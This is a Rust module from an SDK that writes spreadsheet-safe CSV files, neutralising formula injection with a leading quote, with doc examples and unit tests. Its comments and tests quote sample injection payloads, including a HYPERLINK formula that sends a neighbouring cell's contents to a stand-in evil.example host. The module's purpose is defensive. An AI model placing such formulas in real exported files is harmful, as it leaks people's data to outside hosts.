//! CSV files for staff to open in a spreadsheet, written so that no text in
//! them runs there as a formula.
//!
//! Spreadsheets read a cell that begins with `=`, `+`, `-` or `@` as a
//! formula, and some after a leading tab, line break or space too: a report
//! whose text is `=HYPERLINK("https://evil.example/?"&B2, "Details")` would
//! send the neighbouring cell to another site when an official clicks it
//! ("CSV injection", OWASP). So, following OWASP's rule, every text cell
//! that begins with one of `=` `+` `-` `@`, a tab or a carriage return
//! (also as their full-width forms, and also after leading spaces or
//! invisible characters) is written with a single quote in front. A
//! spreadsheet shows such a cell as the text it was; a text editor shows
//! the quote. Cells with a comma, a quote or a line break are quoted as
//! RFC 4180 says.
//!
//! Numbers the module itself has ([`Cell::from`] an integer or a float)
//! are written as they are, so `-250` stays a number a spreadsheet can add
//! up: a number formatted by Rust cannot hold a formula. Text that only
//! looks like a number, such as `-250` typed into a form, is text and gets
//! its quote.
//!
//! ```
//! use portico_sdk::csv::{Cell, Writer};
//!
//! # fn main() -> portico_sdk::Result<()> {
//! let mut csv = Writer::new();
//! csv.row(["number", "description", "amount"])?;
//! csv.row([
//!     Cell::text("2026-0001"),
//!     Cell::text("=1+1"),
//!     Cell::from(-250),
//! ])?;
//! assert_eq!(
//!     String::from_utf8(csv.into_bytes()?).unwrap(),
//!     "number,description,amount\n2026-0001,'=1+1,-250\n"
//! );
//! # Ok(()) }
//! ```
//!
//! A page route answers with the file through [`Writer::into_response`]:
//!
//! ```no_run
//! # fn export() -> portico_sdk::Result<portico_sdk::Response> {
//! let mut csv = portico_sdk::csv::Writer::new();
//! csv.row(["number", "status"])?;
//! csv.into_response("reports.csv")
//! # }
//! ```

use crate::{Error, Response, Result};

/// What makes a spreadsheet read a cell as a formula when it begins the
/// cell: OWASP's list, the full-width forms that East Asian input methods
/// type (some spreadsheets read them as the ASCII ones), and the line feed
/// and NUL, which spreadsheets skip like the tab and the carriage return.
const FORMULA_START: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Characters a spreadsheet may drop before it looks at a cell's start:
/// white space, control characters, and the invisible ones (zero-width
/// spaces and joiners, the byte-order mark, direction marks).
fn skipped(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{2069}' | '\u{FEFF}'
        )
}

/// `text` as a cell that a spreadsheet shows as this text and never
/// evaluates.
fn neutralised(text: String) -> String {
    let starts_formula = |s: &str| s.starts_with(FORMULA_START);
    if starts_formula(&text) || starts_formula(text.trim_start_matches(skipped)) {
        format!("'{text}")
    } else {
        text
    }
}

/// One cell of a row: text (written so that it never runs as a formula) or
/// a number the module has.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell(String);

impl Cell {
    /// A text cell. Text that begins like a formula gets a single quote in
    /// front (see the [module](self) documentation).
    pub fn text(text: impl Into<String>) -> Self {
        Cell(neutralised(text.into()))
    }

    /// An empty cell.
    pub fn empty() -> Self {
        Cell(String::new())
    }

    /// What is written for this cell.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::text(text)
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::text(text)
    }
}

impl From<&String> for Cell {
    fn from(text: &String) -> Self {
        Cell::text(text.as_str())
    }
}

macro_rules! number_cells {
    ($($t:ty),*) => {$(
        /// A number cell, written as a number even when negative.
        impl From<$t> for Cell {
            fn from(n: $t) -> Self {
                Cell(n.to_string())
            }
        }
    )*};
}
number_cells!(
    i8, i16, i32, i64, i128, isize, u8, u16, u32, u64, u128, usize
);

/// A number cell, written as a number even when negative; empty when the
/// number is not finite (a spreadsheet has no number for it).
impl From<f64> for Cell {
    fn from(n: f64) -> Self {
        if n.is_finite() {
            Cell(n.to_string())
        } else {
            Cell::empty()
        }
    }
}

/// A number cell, as for `f64`.
impl From<f32> for Cell {
    fn from(n: f32) -> Self {
        Cell::from(f64::from(n))
    }
}

/// The value's cell, or an empty one.
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Self {
        value.map_or_else(Cell::empty, Into::into)
    }
}

/// A CSV file being written, row by row, in memory.
///
/// Every row has as many cells as the first; a row of another length is
/// an error rather than a file whose columns slip.
#[derive(Debug)]
pub struct Writer {
    out: ::csv::Writer<Vec<u8>>,
}

impl Default for Writer {
    fn default() -> Self {
        Writer::new()
    }
}

impl Writer {
    /// An empty file: comma-separated, lines ending in `\n`.
    pub fn new() -> Self {
        Writer {
            out: ::csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Adds a row: a header, or a record. Text cells may be given as
    /// `&str` or `String`; mix text and numbers with [`Cell`].
    pub fn row<I>(&mut self, cells: I) -> Result<()>
    where
        I: IntoIterator,
        I::Item: Into<Cell>,
    {
        self.out
            .write_record(cells.into_iter().map(|c| c.into().0))
            .map_err(|e| Error::internal(format!("cannot write CSV: {e}")))
    }

    /// The file's bytes (UTF-8).
    pub fn into_bytes(self) -> Result<Vec<u8>> {
        self.out
            .into_inner()
            .map_err(|e| Error::internal(format!("cannot write CSV: {}", e.error())))
    }

    /// A 200 response that downloads the file as `file_name`.
    pub fn into_response(self, file_name: &str) -> Result<Response> {
        let name = file_name.replace(['"', '\\', '\r', '\n'], "_");
        Ok(Response::new(200)
            .header("content-type", "text/csv; charset=utf-8")
            .header(
                "content-disposition",
                format!("attachment; filename=\"{name}\""),
            )
            .body(self.into_bytes()?))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[Vec<Cell>]) -> String {
        let mut csv = Writer::new();
        for r in rows {
            csv.row(r.iter().cloned()).unwrap();
        }
        String::from_utf8(csv.into_bytes().unwrap()).unwrap()
    }

    #[test]
    fn text_that_begins_like_a_formula_gets_a_quote_in_front() {
        for (given, cell) in [
            (
                "=HYPERLINK(\"https://evil.example\")",
                "'=HYPERLINK(\"https://evil.example\")",
            ),
            ("+420 601 234 567", "'+420 601 234 567"),
            ("-250", "'-250"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\tnothing", "'\tnothing"),
            ("\n@x", "'\n@x"),
            ("\0x", "'\0x"),
            ("  =1+1", "'  =1+1"),
            ("\u{00A0}=1+1", "'\u{00A0}=1+1"),
            ("\u{200B}\u{FEFF}=1+1", "'\u{200B}\u{FEFF}=1+1"),
            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
            ("  \u{FF20}x", "'  \u{FF20}x"),
        ] {
            assert_eq!(Cell::text(given).as_str(), cell, "{given:?}");
        }
    }

    #[test]
    fn other_text_is_written_as_it_is() {
        for text in [
            "",
            "Husova 12",
            "a = b",
            "jana@example.cz",
            "'quoted",
            "2026-01-05",
            "12.5",
            " leading space",
            "Řeka – Brno",
        ] {
            assert_eq!(Cell::text(text).as_str(), text);
        }
    }

    #[test]
    fn numbers_the_module_has_stay_numbers() {
        assert_eq!(Cell::from(-250).as_str(), "-250");
        assert_eq!(Cell::from(-16.5).as_str(), "-16.5");
        assert_eq!(Cell::from(7u32).as_str(), "7");
        assert_eq!(Cell::from(f64::NAN).as_str(), "");
        assert_eq!(Cell::from(f64::NEG_INFINITY).as_str(), "");
        assert_eq!(Cell::from(Some(-1.25)).as_str(), "-1.25");
        assert_eq!(Cell::from(None::<f64>).as_str(), "");
        assert_eq!(Cell::from(Some("-x")).as_str(), "'-x");
    }

    #[test]
    fn cells_with_separators_quotes_or_line_breaks_are_quoted() {
        let out = written(&[vec![
            Cell::text("a,b"),
            Cell::text("say \"hi\""),
            Cell::text("two\nlines"),
            Cell::text("=x,\"y\""),
        ]]);
        assert_eq!(
            out,
            "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"'=x,\"\"y\"\"\"\n"
        );
    }

    #[test]
    fn a_row_of_another_length_is_an_error() {
        let mut csv = Writer::new();
        csv.row(["a", "b"]).unwrap();
        let e = csv.row(["only one"]).unwrap_err();
        assert!(
            matches!(&e, Error::Internal(m) if m.starts_with("cannot write CSV")),
            "{e:?}"
        );
    }

    #[test]
    fn the_response_downloads_the_file() {
        let mut csv = Writer::new();
        csv.row(["a"]).unwrap();
        let r: crate::wit::portico::plugin0_1_0::types::Response =
            csv.into_response("x\".csv").unwrap().into();
        assert_eq!(r.status, 200);
        assert!(
            r.headers
                .contains(&("content-type".into(), "text/csv; charset=utf-8".into()))
        );
        assert!(r.headers.contains(&(
            "content-disposition".into(),
            "attachment; filename=\"x_.csv\"".into()
        )));
        assert_eq!(r.body, b"a\n");
    }
}
